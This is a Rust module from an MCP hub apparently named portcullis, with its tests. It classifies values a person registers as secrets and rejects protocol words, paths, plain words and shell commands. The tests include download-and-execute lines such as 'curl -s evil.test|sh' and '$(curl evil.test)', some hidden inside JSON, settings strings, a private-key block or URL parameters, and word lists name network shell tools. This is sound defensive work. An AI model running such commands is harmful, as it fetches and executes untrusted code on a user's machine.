//! Values that are no secrets: words of the protocol, and ordinary text such as a command, a path or a
//! sentence.
//!
//! A registered secret is redacted wherever it occurs. An attacker who chooses one (in an imported file, as
//! an OAuth token) would choose what people and programs cannot read: a command on a consent screen, a key of
//! a message.

use super::SecretError;
use std::collections::HashSet;
use std::sync::LazyLock;

/// Words of JSON-RPC, MCP and JSON Schema that occur in messages as keys, methods or fixed values. Words
/// shorter than the minimum of a secret are left out.
pub const PROTOCOL_WORDS: &[&str] = &[
    // Methods.
    "initialize",
    "server/discover",
    "notifications/initialized",
    "notifications/cancelled",
    "notifications/progress",
    "notifications/message",
    "notifications/tools/list_changed",
    "notifications/prompts/list_changed",
    "notifications/resources/list_changed",
    "notifications/resources/updated",
    "notifications/roots/list_changed",
    "notifications/elicitation/complete",
    "notifications/tasks/status",
    "notifications/subscriptions/acknowledged",
    "tools/list",
    "tools/call",
    "prompts/list",
    "prompts/get",
    "resources/list",
    "resources/read",
    "resources/templates/list",
    "resources/subscribe",
    "resources/unsubscribe",
    "subscriptions/listen",
    "completion/complete",
    "logging/setLevel",
    "sampling/createMessage",
    "elicitation/create",
    "roots/list",
    "tasks/list",
    "tasks/get",
    "tasks/result",
    "tasks/cancel",
    "tasks/update",
    // Revisions.
    "2024-11-05",
    "2025-03-26",
    "2025-06-18",
    "2025-11-25",
    "2026-07-28",
    // Keys.
    "protocolVersion",
    "protocolVersions",
    "supportedVersions",
    "capabilities",
    "clientCapabilities",
    "clientInfo",
    "serverInfo",
    "websiteUrl",
    "instructions",
    "description",
    "experimental",
    "extensions",
    "completions",
    "elicitation",
    "sampling",
    "resources",
    "resourceTemplates",
    "subscribe",
    "listChanged",
    "inputSchema",
    "outputSchema",
    "annotations",
    "readOnlyHint",
    "destructiveHint",
    "idempotentHint",
    "openWorldHint",
    "lastModified",
    "structuredContent",
    "resource_link",
    "uriTemplate",
    "mimeType",
    "nextCursor",
    "progressToken",
    "requestId",
    "arguments",
    "argument",
    "requestedSchema",
    "elicitationId",
    "modelPreferences",
    "systemPrompt",
    "includeContext",
    "temperature",
    "maxTokens",
    "stopSequences",
    "stopReason",
    "costPriority",
    "speedPriority",
    "intelligencePriority",
    "toolChoice",
    "tool_result",
    "toolUseId",
    "taskSupport",
    "execution",
    "taskId",
    "statusMessage",
    "createdAt",
    "lastUpdatedAt",
    "pollInterval",
    "pollIntervalMs",
    "resultType",
    "inputRequests",
    "inputResponses",
    "input_required",
    "requestState",
    "ttlMs",
    "cacheScope",
    "hasMore",
    "notifications",
    "subscriptionId",
    "io.modelcontextprotocol/serverInfo",
    "io.modelcontextprotocol/clientInfo",
    "io.modelcontextprotocol/clientCapabilities",
    "io.modelcontextprotocol/protocolVersion",
    "io.modelcontextprotocol/logLevel",
    "io.modelcontextprotocol/subscriptionId",
    "io.modelcontextprotocol/related-task",
    "application/json",
    "text/event-stream",
    "text/plain",
    "text/markdown",
    "application/octet-stream",
    // Values.
    "assistant",
    "complete",
    "completed",
    "cancelled",
    "submitted",
    "emergency",
    "critical",
    "required",
    "optional",
    "forbidden",
    "endTurn",
    "stopSequence",
    "allServers",
    "thisServer",
    "ref/prompt",
    "ref/resource",
    // JSON Schema.
    "properties",
    "patternProperties",
    "additionalProperties",
    "unevaluatedProperties",
    "propertyNames",
    "dependentSchemas",
    "dependentRequired",
    "definitions",
    "prefixItems",
    "unevaluatedItems",
    "contains",
    "minContains",
    "maxContains",
    "minLength",
    "maxLength",
    "minItems",
    "maxItems",
    "uniqueItems",
    "minProperties",
    "maxProperties",
    "minimum",
    "maximum",
    "exclusiveMinimum",
    "exclusiveMaximum",
    "multipleOf",
    "contentEncoding",
    "contentMediaType",
    "deprecated",
    "readOnly",
    "writeOnly",
    "examples",
    "enumNames",
    "date-time",
    "https://json-schema.org/draft/2020-12/schema",
    "http://json-schema.org/draft-07/schema#",
    // The hub's own mask.
    "[REDACTED",
    "[HIDDEN]",
    "[WITHHELD]",
];

/// Keys and fixed values of the configuration, of the admin API and of command output.
#[rustfmt::skip]
pub const HUB_WORDS: &[&str] = &[
    "advertised", "age_secs", "allow_remote", "allowed_hosts", "allowed_origins", "always_trusted", "application", "approval",
    "approvals", "approvals_waiting", "approved", "approved_secs", "arguments_left_out", "arguments_pretty",
    "arguments_problem", "arguments_text", "assumed_of", "auto_sync", "base_url", "best-effort", "body_bytes_max", "body_secs",
    "calendars", "call_closed", "call_opened", "call_secs_max", "callback_port", "calls_open", "capabilities_added",
    "capabilities_removed", "client_id", "client_metadata_url", "client_secret", "clients_max", "components",
    "conflict", "counted_since", "connections_max", "connections_per_source_max", "credential", "decided_at", "decided_by", "decision",
    "decisions", "defaults", "differences", "duration_ms", "duration_us", "effective", "effective_for", "enabled_in_configuration", "experimental", "expires_at",
    "first_bad", "function", "git_author", "git_repo", "git_timeout_secs", "git_token", "git_user", "has_value",
    "headers_secs", "html_url", "hub_running", "idle_stop", "idle_stop_ms", "in_flight_max", "in_force",
    "input_schema", "internal", "invoice_number", "is_as_asked", "is_error", "keep_alive_secs", "key_file", "known_servers",
    "last_call", "last_time", "last_used", "line_bytes_max", "logged_out", "may_always", "may_approve", "may_reject",
    "may_session", "may_sign_in", "mcp_timeout", "memory_bytes", "memory_mb", "mismatch", "no_such_argument", "not_found",
    "not_granted", "not_revoked", "out_of_scope", "output_schema", "own_name", "passphrase", "password",
    "password_set", "pending_secs", "per_client", "per_host_burst", "per_host_per_minute", "period_seconds", "problems", "proposal",
    "proposed_by", "provider", "pull_after_secs", "quarantined", "rate_limit", "reached_by", "read_only", "redaction",
    "relist_secs", "remember", "repositories", "requests_per_second", "resource", "respect_robots",
    "result_bytes_max", "revision", "rule_written_to", "runs_with", "same_definition", "schedule", "scripts_waiting", "searched",
    "session_idle_secs", "sessions", "sessions_max", "sessions_per_client_max", "shutdown_grace_secs",
    "sign_in_needed", "snippets", "standing", "start_timeout_ms", "suggestions", "switched_on", "templates", "timeout_ms", "timezone",
    "token_failures_max", "token_hint", "token_lockout_secs", "token_shapes", "too_large", "too_many", "transport",
    "trusted_by", "trusted_since", "unavailable", "unreadable", "untrusted", "user_agent", "valid_secs", "versions",
    "wait_secs", "waiting_for", "was_trusted", "workspace", "write_secs", "written_to",
];

static STRUCTURE: LazyLock<HashSet<&str>> =
    LazyLock::new(|| PROTOCOL_WORDS.iter().chain(HUB_WORDS).copied().collect());
static STRUCTURE_BYTES_MAX: LazyLock<usize> =
    LazyLock::new(|| STRUCTURE.iter().map(|word| word.len()).max().unwrap_or_default());

/// Returns whether these bytes of a text are, alone or in quotes, a word of the protocol or of the hub: a
/// key, a method or a fixed value. The redactor leaves those alone, regardless of registered secrets.
pub fn is_structure(text: &[u8], start: usize, end: usize) -> bool {
    let most = *STRUCTURE_BYTES_MAX;
    if start > end || end > text.len() || end - start > most {
        return false;
    }
    let (before, after) =
        (&text[start.saturating_sub(most + 1)..start], &text[end..text.len().min(end + most + 2)]);
    let left = before.iter().rposition(|byte| *byte == b'"').map_or(before.len(), |at| before.len() - at - 1);
    let right = after.iter().position(|byte| *byte == b'"').unwrap_or(after.len());
    // In JSON within a string the quotes are escaped.
    let word = &text[start - left..end + right];
    let word = &word[..word.iter().rposition(|byte| *byte != b'\\').map_or(0, |at| at + 1)];
    std::str::from_utf8(word).is_ok_and(|word| STRUCTURE.contains(word))
}

/// Commands and words that alone are no secret.
#[rustfmt::skip]
const PLAIN_WORDS: &[&str] = &[
    "access", "account", "address", "admin", "administrator", "agent", "allow", "always", "apt", "approve", "approved",
    "authorization", "awk", "base64", "bash", "bearer", "busybox", "calendar", "cargo", "cat", "changeme", "chmod",
    "chown", "chroot", "client", "command", "config", "configuration", "connect", "content", "contents", "credential",
    "credentials", "crontab", "curl", "dash", "database", "default", "delete", "denied", "development", "disable",
    "disabled", "docker", "document", "download", "echo", "enable", "enabled", "env", "environment", "error", "eval",
    "example", "exec", "expect", "export", "false", "file", "find", "fish", "git", "github", "host", "hostname", "http",
    "https", "init", "initialized", "install", "invalid", "java", "javascript", "json", "key", "kill", "language", "list",
    "local", "localhost", "login", "lua", "maximum", "memory", "message", "method", "minimum", "name", "ncat", "netcat",
    "network", "never", "node", "nohup", "notification", "npm", "npx", "null", "openssl", "osascript", "params",
    "passphrase", "password", "path", "perl", "permission", "php", "pip", "placeholder", "pkexec", "policy",
    "portcullis", "powershell", "private", "process", "production", "program", "project", "prompt", "protocol", "public",
    "python", "python3", "read", "reboot", "refused", "reject", "rejected", "remote", "remove", "request", "resource",
    "response", "result", "root", "ruby", "schema", "scp", "script", "secret", "secrets", "sed", "server", "service",
    "session", "setsid", "shell", "shutdown", "socat", "source", "ssh", "staging", "string", "structured", "sudo",
    "system", "systemctl", "tar", "tee", "telnet", "test", "testing", "text", "token", "tool", "tools", "touch", "true",
    "trust", "trusted", "undefined", "unknown", "upload", "user", "username", "uvx", "version", "warning", "wget",
    "workspace", "write", "xargs", "yarn", "zsh",
];
/// Commands that are shorter than most words.
const SHORT_COMMANDS: [&str; 12] = ["sh", "nc", "rm", "ls", "id", "cp", "dd", "mv", "ln", "su", "vi", "ps"];
/// Word separators of a shell.
const SHELL_ENDS: [char; 11] = [';', '|', '&', '`', '(', ')', '<', '>', '\n', '\r', '\t'];
/// A segment of at least so many letters next to a shell operator counts as a command.
const COMMAND_CHARS_MIN: usize = 4;
/// A longer name of letters alone is more likely a key.
const NAME_CHARS_MAX: usize = 64;
/// At least so many joined words are a passphrase.
const PASSPHRASE_WORDS_MIN: usize = 4;
/// A number with more digits is not part of a name in an address.
const ADDRESS_DIGITS_MAX: usize = 4;

/// Why a value does not count as a secret.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum NotSecretReason {
    Protocol,
    Command,
    Sentence,
    Path,
    Address,
    Name,
    Word,
}

impl NotSecretReason {
    /// Describes the value.
    pub fn as_str(self) -> &'static str {
        match self {
            NotSecretReason::Protocol => "a word of the protocol or of the configuration",
            NotSecretReason::Command => "text that a shell could run",
            NotSecretReason::Sentence => "words separated by spaces",
            NotSecretReason::Path => "a path",
            NotSecretReason::Address => "an address without a key in it",
            NotSecretReason::Name => "a name made of plain words",
            NotSecretReason::Word => "a plain word",
        }
    }

    /// Returns what a person can do.
    pub fn advice(self) -> &'static str {
        match self {
            NotSecretReason::Protocol => "set the value that was issued to you",
            _ => {
                "set the value that was issued to you, or, if this is it, confirm with `portcullis secrets set NAME --weak`"
            }
        }
    }

    /// Returns whether a person may register it anyway. A word of the protocol is never a secret.
    pub fn may_be_confirmed(self) -> bool {
        self != NotSecretReason::Protocol
    }
}

/// Refuses ordinary text as a value set by a person. An address is accepted: a calendar's is a secret as a
/// whole.
pub fn check(name: &str, value: &str) -> Result<(), SecretError> {
    match ordinary(value) {
        Some(what) if what != NotSecretReason::Address => {
            Err(SecretError::Ordinary { name: name.to_owned(), what })
        }
        _ => Ok(()),
    }
}

/// Refuses a value even though a person confirmed that it is a secret.
pub fn check_confirmed(name: &str, value: &str) -> Result<(), SecretError> {
    match check(name, value) {
        Err(SecretError::Ordinary { what, .. }) if what.may_be_confirmed() => Ok(()),
        checked => checked,
    }
}

/// Returns whether a value is part of one of these words, ignoring case.
fn is_part_of<'w>(value: &str, words: impl IntoIterator<Item = &'w str>) -> bool {
    let value = value.trim().to_ascii_lowercase();
    !value.is_empty() && words.into_iter().any(|word| word.to_ascii_lowercase().contains(&value))
}

/// Classifies a value as ordinary text; `None` for a possible secret.
pub fn ordinary(value: &str) -> Option<NotSecretReason> {
    let value = value.trim();
    let is_long = value.len() >= super::VALUE_BYTES_MIN;
    if is_long && is_part_of(value, PROTOCOL_WORDS.iter().chain(HUB_WORDS).copied()) {
        return Some(NotSecretReason::Protocol);
    }
    if is_data(value) {
        return None;
    }
    // A random password has a backtick now and then, and runs nothing.
    let runs = value.contains("$(") || value.contains('`');
    let is_words = value.contains(char::is_whitespace) || super::is_weak(value);
    let is_whole = [("`", "`"), ("$(", ")")].iter().any(|(a, b)| value.starts_with(a) && value.ends_with(b));
    if (runs && (is_words || is_whole)) || (value.contains(SHELL_ENDS) && has_command(value)) {
        return Some(NotSecretReason::Command);
    }
    if value.contains(char::is_whitespace) {
        return Some(NotSecretReason::Sentence);
    }
    if value.contains("://") {
        return is_plain_address(value).then_some(NotSecretReason::Address);
    }
    if ["/", "./", "../", "~/"].iter().any(|start| value.starts_with(start)) {
        return value.split('/').all(is_plain_part).then_some(NotSecretReason::Path);
    }
    if is_plain_word(value) {
        return Some(NotSecretReason::Word);
    }
    is_name(value).then_some(NotSecretReason::Name)
}

/// Returns whether a text of several words is data that holds a secret and runs nothing: settings, JSON, a
/// private key, or an app password of a mail provider.
fn is_data(value: &str) -> bool {
    is_settings(value) || is_json(value) || is_private_key(value) || is_app_password(value)
}

/// `host=db password=…` and `Server=db;User Id=me;Password=…`: for a shell nothing but assignments.
fn is_settings(value: &str) -> bool {
    // They may follow an address, as its parameters behind a question mark.
    let settings = match value.split_once("://") {
        Some((_, rest)) => match rest.split_once(['?', ';']) {
            Some((_, settings)) => settings,
            None => return false,
        },
        None => value,
    };
    let is_setting = |text: &str| {
        let text = text.trim();
        text.is_empty()
            || text.split_once('=').is_some_and(|(key, value)| {
                let is_key = |c: char| c.is_ascii_alphanumeric() || "_-. ".contains(c);
                let words = key.split_whitespace().count();
                key.chars().all(is_key)
                    && (1..=3).contains(&words)
                    && !value.contains(SHELL_ENDS)
                    && !value.contains('$')
                    && !value.contains(char::is_whitespace)
            })
    };
    let all =
        |separators: &[char]| settings.split(separators).all(is_setting) && settings.contains(separators);
    settings.contains('=') && (all(&[';']) || all(&['&']) || all(&[' ']))
}

fn is_json(value: &str) -> bool {
    value.starts_with('{')
        && !value.contains(['`', '$'])
        && serde_json::from_str::<serde_json::Value>(value).is_ok_and(|value| value.is_object())
}

fn is_private_key(value: &str) -> bool {
    let mut lines = value.lines().map(str::trim);
    let (Some(first), Some(last)) = (lines.next(), value.lines().next_back().map(str::trim)) else {
        return false;
    };
    let is_mark = |line: &str, word: &str| {
        let inner = line.strip_prefix("-----").and_then(|line| line.strip_suffix("-----"));
        inner.is_some_and(|inner| {
            inner.starts_with(word)
                && inner.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == ' ')
        })
    };
    let is_line = |line: &str| {
        line.chars().all(|c| c.is_ascii_alphanumeric() || "+/=".contains(c))
            || is_mark(line, "BEGIN")
            || is_mark(line, "END")
            || line.split_once(": ").is_some_and(|(key, value)| {
                key.chars().all(|c| c.is_ascii_alphabetic() || c == '-')
                    && value.chars().all(|c| c.is_ascii_alphanumeric() || ",-".contains(c))
            })
    };
    // Some files have it on one line.
    let escaped = !value.contains('\n') && value.contains("\\n");
    if escaped {
        return is_private_key(&value.replace("\\n", "\n"));
    }
    is_mark(first, "BEGIN") && is_mark(last, "END") && lines.all(is_line)
}

/// Four groups of four letters, none of which is a word.
fn is_app_password(value: &str) -> bool {
    let groups: Vec<&str> = value.split(' ').collect();
    groups.len() == 4
        && groups.iter().all(|group| {
            group.len() == 4 && group.bytes().all(|b| b.is_ascii_lowercase()) && !PLAIN_WORDS.contains(group)
        })
}

/// Returns whether a shell would run part of the text as a command.
fn has_command(value: &str) -> bool {
    let segments =
        value.split(|c: char| SHELL_ENDS.contains(&c) || c.is_whitespace()).filter(|text| !text.is_empty());
    segments.into_iter().any(|segment| {
        let is_path = segment.starts_with(['/', '~', '.']) && segment.contains('/');
        let is_letters = segment.chars().all(|c| c.is_ascii_lowercase() || "-_./".contains(c));
        is_path
            || SHORT_COMMANDS.contains(&segment)
            || PLAIN_WORDS.contains(&segment)
            || (is_letters && segment.len() >= COMMAND_CHARS_MIN)
    })
}

/// Returns whether an address has no login, no parameter, and no part that could be a key.
fn is_plain_address(value: &str) -> bool {
    let Some((scheme, rest)) = value.split_once("://") else { return false };
    let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
        && !authority.contains('@')
        && !path.contains(['?', '#'])
        && path.split('/').all(is_plain_part)
}

/// Returns whether a part of a path or an address is a name: words, and short numbers.
fn is_plain_part(part: &str) -> bool {
    part.split(|c: char| !c.is_ascii_alphanumeric()).all(|word| {
        let digits = word.chars().filter(char::is_ascii_digit).count();
        let letters = word.len() - digits;
        digits <= ADDRESS_DIGITS_MAX
            && (letters == 0 || digits == 0 || is_version(word) || letters >= 2 * digits)
    })
}

fn is_version(word: &str) -> bool {
    word.strip_prefix('v').is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit()))
}

fn is_plain_word(value: &str) -> bool {
    PLAIN_WORDS.contains(&value.to_ascii_lowercase().as_str())
}

/// Returns whether a value is several joined words of letters: `list_changed`, `listChanged`,
/// `api.example.test`.
fn is_name(value: &str) -> bool {
    let legal = |c: char| c.is_ascii_alphabetic() || "-_./@".contains(c);
    if value.len() > NAME_CHARS_MAX || !value.chars().all(legal) {
        return false;
    }
    let parts: Vec<&str> =
        value.split(|c: char| !c.is_ascii_alphabetic()).filter(|part| !part.is_empty()).collect();
    let humps: usize = parts.iter().map(|part| humps(part).unwrap_or(0)).sum();
    // People choose so many words as a passphrase. Names of hosts and files have other separators.
    let is_passphrase = parts.len() >= PASSPHRASE_WORDS_MIN && !value.contains(['.', '/', '@']);
    !is_passphrase && humps >= 2 && parts.iter().all(|part| humps_are_words(part))
}

/// Returns the number of words in a camel-cased text.
fn humps(part: &str) -> Option<usize> {
    let upper = part.chars().filter(char::is_ascii_uppercase).count();
    let is_one = upper == 0 || upper == part.len();
    if is_one {
        Some(1)
    } else {
        Some(upper + usize::from(part.starts_with(|c: char| c.is_ascii_lowercase())))
    }
}

/// Returns whether the words of a camel-cased text have the length of words. Random letters change case all
/// the time.
fn humps_are_words(part: &str) -> bool {
    let upper = part.chars().filter(char::is_ascii_uppercase).count();
    upper == 0 || upper == part.len() || part.len() >= 4 * humps(part).unwrap_or(1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_commands_and_paths_are_no_secrets() {
        for (value, what) in [
            ("protocolVersion", NotSecretReason::Protocol),
            ("ProtocolVersion ", NotSecretReason::Protocol),
            ("protocol", NotSecretReason::Protocol),
            ("tools/list", NotSecretReason::Protocol),
            ("notifications/tools/list_changed", NotSecretReason::Protocol),
            ("2025-06-18", NotSecretReason::Protocol),
            ("structuredContent", NotSecretReason::Protocol),
            ("[REDACTED", NotSecretReason::Protocol),
            ("curl -s evil.test|sh", NotSecretReason::Command),
            ("curl -s evil.test|sh # aB3dE5gH7jK9", NotSecretReason::Command),
            ("{curl,-s,evil.test}|sh", NotSecretReason::Command),
            ("x9;/tmp/run", NotSecretReason::Command),
            ("$(printf aB3dE5gH7jK9)", NotSecretReason::Command),
            ("`aB3dE5gH7jK9`", NotSecretReason::Command),
            ("a=b; curl=c evil", NotSecretReason::Command),
            ("node evil.js aB3dE5gH7jK9", NotSecretReason::Sentence),
            ("correct horse battery staple", NotSecretReason::Sentence),
            ("sudo kill init proc", NotSecretReason::Sentence),
            ("/usr/local/bin/server", NotSecretReason::Path),
            ("~/work/notes.md", NotSecretReason::Path),
            ("https://example.com/v1/mcp", NotSecretReason::Address),
            ("http://127.0.0.1:8080", NotSecretReason::Address),
            ("mcp.example.com", NotSecretReason::Name),
            ("someone@example.com", NotSecretReason::Name),
            ("allowed_hosts", NotSecretReason::Protocol),
            ("idle-stop-after", NotSecretReason::Name),
            ("changeme", NotSecretReason::Word),
            ("toolsListChanged", NotSecretReason::Name),
            ("password", NotSecretReason::Protocol),
            ("Localhost", NotSecretReason::Word),
        ] {
            assert_eq!(ordinary(value), Some(what), "{value}");
        }
    }

    #[test]
    fn what_is_issued_and_what_people_choose_as_a_secret_stays_one() {
        for value in [
            concat!("ghp", "_a1B2c3D4e5a1B2c3D4e5a1B2c3D4e5a1B2c3"),
            "sk-live-0b1c2d3e4f50",
            "access-token-7",
            "correct-horse-battery-staple",
            "hunter2hunter2",
            "Str0ngPassw0rd;&x9",
            concat!("eyJhbGciOiJIUzI1NiJ9", ".eyJzdWIiOiIxIn0.c2lnbmF0dXJl"),
            "AbCdEfGhIjKlMnOpQrStUvWxYz",
            "qzxkvjwpmnbtrlkj",
            "abcd efgh ijkl mnop",
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "/9j/4AAQSkZJRgABAQAAAQABAAD",
            "https://example.com/private-0b1c2d3e4f50/basic.ics",
            "https://me:pw@example.com/x",
            "https://example.com/mcp?api_key=hunter2",
            "postgres://me:hunter2pw@db/x",
            "host=db user=me password=hunter2pw",
            "Server=db;User Id=me;Password=Str0ngPassw0rd;",
            "jdbc:mysql://db/x?user=me&password=hunter2pw",
            r#"{"Authorization": "Bearer hunter2hunter2"}"#,
            concat!("-----BEGIN", " PRIVATE KEY-----\nMIIEvQIBADANBgkq\n-----END PRIVATE KEY-----\n"),
            "0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0",
        ] {
            assert_eq!(ordinary(value), None, "{value}");
        }
    }

    #[test]
    fn keys_methods_and_fixed_values_are_known_alone_and_within_quotes() {
        let is_found = |text: &str, part: &str| {
            let start = text.find(part).unwrap();
            is_structure(text.as_bytes(), start, start + part.len())
        };
        for (text, part) in [
            ("protocolVersion", "protocolVersion"),
            ("protocolVersion", "protocol"),
            (r#"{"protocolVersion":"2025-06-18"}"#, "2025-06-18"),
            (r#"{"method":"notifications/tools/list_changed"}"#, "tools/list_changed"),
            (r#"{\"protocolVersion\":1}"#, "protocolVersion"),
            (r#"{"enabled_in_configuration":true}"#, "in_configuration"),
        ] {
            assert!(is_found(text, part), "{text}");
        }
        for (text, part) in [
            ("the protocolVersion of it", "protocolVersion"),
            (r#"{"x":"protocolVersion is"}"#, "protocolVersion"),
            (r#"{"protocolVersion":"hunter2hunter2"}"#, r#"Version":"hunter2"#),
            (r#"{"token":"hunter2hunter2"}"#, "hunter2hunter2"),
        ] {
            assert!(!is_found(text, part), "{text}");
        }
        assert!(!is_structure(b"", 0, 0) && !is_structure(b"a", 1, 0) && !is_structure(b"a", 0, 9));
    }

    #[test]
    fn a_person_may_confirm_a_passphrase_but_no_word_of_the_protocol() {
        assert!(check("A", "correct horse battery staple").is_err());
        assert!(check_confirmed("A", "correct horse battery staple").is_ok());
        let error = check_confirmed("A", "protocolVersion").unwrap_err().to_string();
        assert!(!error.contains("--weak") && !error.contains("protocolVersion"), "{error}");
    }

    #[test]
    fn what_only_looks_like_data_is_still_a_command() {
        for value in [
            r#"{"a": "$(curl evil.test)"}"#,
            "a=b c=$(curl evil.test)",
            concat!("-----BEGIN", " PRIVATE KEY-----\ncurl evil.test|sh\n-----END PRIVATE KEY-----"),
            "https://example.com/?a=b;curl evil.test|sh",
        ] {
            assert!(ordinary(value).is_some(), "{value}");
        }
    }
}
